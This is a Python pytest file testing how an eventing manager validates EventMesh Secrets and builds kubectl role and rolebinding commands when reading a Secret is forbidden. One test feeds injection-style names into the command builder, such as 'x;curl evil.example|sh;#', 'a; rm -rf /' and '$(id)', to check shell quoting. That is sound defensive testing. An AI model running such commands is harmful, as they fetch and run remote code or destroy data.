"""The Secret of EventMesh is usable, or it is said what it lacks."""

import json
import shlex

import pytest
from manager_definitions import endpoint, secret

from eventing_manager.api.status import Reason
from eventing_manager.observe.eventmesh import missing_keys, role_name, secret_found
from kubeloop.errors import ForbiddenError
from kubeloop.resource import ObjectKey

LISTED_FIRST = {"broker": {"type": "sapmgw"}, "uri": "wss://other"}
NO_JSON = "a JSON list in key messaging"
TWICE = f"{NO_JSON} in which no name is given twice"
NO_ENDPOINT = "an endpoint whose broker.type is saprestmgw"


def messaging(**changes):
    return {"messaging": json.dumps([endpoint(**changes)])}


def with_credential(**changes):
    return messaging(oa2={**endpoint()["oa2"], **changes})


def nested(depth):
    return "[" * depth + "]" * depth


@pytest.mark.parametrize(
    "data",
    [
        {"messaging": json.dumps([LISTED_FIRST, endpoint()])},
        {"messaging": json.dumps(endpoint())},
        {"messaging": f"\n {json.dumps([endpoint()])} \n"},
        {"messaging": json.dumps([LISTED_FIRST] * 9_000 + [endpoint()])},
        messaging(weight=1e308, more={"deep": json.loads(nested(50))}),
        with_credential(clientsecret='q"\\uote', clientid=" c"),
        {"namespace": "/sap/kyma/ü"},
    ],
)
def test_a_service_binding_lacks_nothing(data):
    assert list(missing_keys(secret(**data))) == []


@pytest.mark.parametrize(
    ("data", "lacks"),
    [
        ({"namespace": None}, "key namespace"),
        ({"namespace": ""}, "key namespace"),
        ({"namespace": " "}, "key namespace"),
        ({"messaging": None}, "key messaging"),
        ({"messaging": " \n"}, "key messaging"),
        ({"messaging": "{"}, NO_JSON),
        ({"messaging": "client_credentials"}, NO_JSON),
        ({"messaging": "\ufeff[]"}, NO_JSON),
        ({"messaging": "[" * 100_000}, NO_JSON),
        ({"messaging": nested(100_000)}, NO_JSON),
        ({"messaging": '{"a":' * 100_000 + "1" + "}" * 100_000}, NO_JSON),
        ({"messaging": "9" * 5_000}, NO_JSON),
        ({"messaging": "NaN"}, NO_JSON),
        ({"messaging": json.dumps([endpoint(weight=float("inf"))])}, NO_JSON),
        ({"messaging": json.dumps([endpoint()])[:-2] + ', "uri": "https://other"}]'}, TWICE),
        ({"messaging": '[{"oa2": {"clientid": "a", "clientid": "b"}}]'}, TWICE),
        ({"messaging": "[]"}, NO_ENDPOINT),
        ({"messaging": "null"}, NO_ENDPOINT),
        ({"messaging": '"saprestmgw"'}, NO_ENDPOINT),
        ({"messaging": '["text"]'}, NO_ENDPOINT),
        ({"messaging": json.dumps([[endpoint()]])}, NO_ENDPOINT),
        ({"messaging": json.dumps([LISTED_FIRST])}, NO_ENDPOINT),
        (messaging(broker="saprestmgw"), NO_ENDPOINT),
        (messaging(broker={"type": ["saprestmgw"]}), NO_ENDPOINT),
        (messaging(uri=""), "text in uri of the saprestmgw endpoint"),
        (messaging(uri=8080), "text in uri of the saprestmgw endpoint"),
        (messaging(uri=["https://a"]), "text in uri of the saprestmgw endpoint"),
        (messaging(oa2=None), "oa2.clientid of the saprestmgw endpoint"),
        (messaging(oa2="clientid"), "oa2.clientid of the saprestmgw endpoint"),
        (messaging(oa2=[]), "oa2.clientid of the saprestmgw endpoint"),
        (messaging(oa2={"clientid": "c"}), "oa2.clientsecret of the saprestmgw"),
        (with_credential(clientid=12345), "text in oa2.clientid of the saprestmgw"),
        (with_credential(clientid="   "), "text in oa2.clientid of the saprestmgw"),
        (with_credential(clientsecret=True), "text in oa2.clientsecret of the saprestmgw"),
        (with_credential(granttype=None), "text in oa2.granttype of the saprestmgw"),
        (with_credential(tokenendpoint={"url": "https://t"}), "text in oa2.tokenendpoint of the saprestmgw"),
        (with_credential(tokenendpoint=1.5), "text in oa2.tokenendpoint of the saprestmgw"),
    ],
    ids=lambda value: str(value)[:60],
)
def test_what_a_secret_lacks_is_named(data, lacks):
    first, *_ = missing_keys(secret(**data))

    assert first.startswith(lacks)


def test_a_value_that_is_not_text_counts_as_missing():
    broken = secret()
    broken["data"]["namespace"] = "/w=="

    assert list(missing_keys(broken)) == ["key namespace"]


@pytest.mark.parametrize("data", [None, {}])
def test_a_secret_without_content_lacks_its_first_key(data):
    first, *_ = missing_keys({"kind": "Secret", "data": data})

    assert first == "key namespace"


class Forbidding:
    """An API server that lets nobody read a Secret."""

    async def get(self, _kind, name, _namespace):
        raise ForbiddenError(403, "Forbidden", f"secrets {name!r} is forbidden", method="GET", path="/")


@pytest.mark.parametrize(
    "key",
    [
        ObjectKey("shop", "mesh"),
        ObjectKey("a; rm -rf /", "x;curl evil.example|sh;#"),
        ObjectKey("n", "'$(id)"),
    ],
)
async def test_the_commands_that_allow_a_secret_are_two_whatever_its_name(key):
    found = await secret_found(Forbidding(), key, "kyma-system")

    words = shlex.split(found.message.partition("allow it: ")[2])
    first, second = words[: words.index("&&")], words[words.index("&&") + 1 :]
    role = role_name(key.name)
    assert found.reason is Reason.SECRET_FORBIDDEN
    assert first == [
        "kubectl", "-n", key.namespace, "create", "role", role,
        "--verb=get,list,watch", "--resource=secrets", f"--resource-name={key.name}",
    ]  # fmt: skip
    assert second == [
        "kubectl", "-n", key.namespace, "create", "rolebinding", role,
        f"--role={role}", "--serviceaccount=kyma-system:eventing-controller-manager",
    ]  # fmt: skip


def test_the_role_of_a_secret_is_no_other_role():
    names = [
        "backend",
        "leader-election",
        "eventmesh-a",
        "a",
        "a" * 226,
        "a" * 227,
        "a" * 252 + "b",
        "a" * 253,
    ]

    roles = [role_name(name) for name in names]

    assert roles[0] == "eventing-manager-eventmesh-backend"
    assert len(set(roles)) == len(names)
    assert max(len(role) for role in roles) <= 253
    assert not {"eventing-manager-backend", "eventing-manager-leader-election"} & set(roles)
    # What stands for a long name can be no short one's.
    assert role_name(roles[-1].partition("eventmesh")[2][1:]) != roles[-1]
